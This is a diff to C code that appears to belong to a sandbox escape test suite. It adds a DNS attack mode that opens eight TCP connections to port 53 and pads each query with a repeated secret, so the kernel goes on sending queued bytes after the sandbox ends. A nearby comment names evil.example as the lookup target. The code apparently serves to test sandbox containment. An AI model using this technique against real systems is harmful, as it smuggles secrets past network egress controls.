@@ -82,6 +82,33 @@ static enum verdict other_sendmsg(const struct scene *s)
 					  query[3] & 15);
 }
 
+/*
+ * Connections whose first question waits for a slow upstream, with much behind
+ * it; and then the sandbox ends. The kernel goes on sending what is left. Where
+ * to, when nothing redirects it any longer?
+ */
+static enum verdict orphans(const struct scene *s)
+{
+	enum { CONNECTIONS = 8 };
+	struct sockaddr_in server = at_port(&s->target4.sin_addr, 53);
+	static uint8_t text[65536];
+	size_t len = dns_message(text + 2, 512, 1, s->name, NULL);
+	ssize_t n, sum = 0;
+
+	text[1] = (uint8_t)len;
+	for (size_t i = len + 2; i < sizeof(text); i++)
+		text[i] = (uint8_t)s->secret[i % strlen(s->secret)];
+	for (int i = 0; i < CONNECTIONS; i++) {
+		int fd = new_socket(AF_INET, SOCK_STREAM, 0);
+
+		if (connect(fd, (const void *)&server, sizeof(server)) != 0)
+			return failed("connect");
+		while ((n = send(fd, text, sizeof(text), MSG_DONTWAIT)) > 0)
+			sum += n;
+	}
+	return say(THROUGH, "%zd bytes are on their way", sum);
+}
+
 /* To the sandbox's own server, which knows whom to ask for evil.example. */
 static enum verdict tunnel(const struct scene *s)
 {
@@ -239,6 +266,7 @@ const struct attack attack_dns = {
 	(const struct mode[]){{"other-udp", other_udp},
 			      {"other-tcp", other_tcp},
 			      {"other-sendmsg", other_sendmsg},
+			      {"orphans", orphans},
 			      {"tunnel", tunnel},
 			      {"own-53", own_53},
 			      {"own-5353", own_5353},
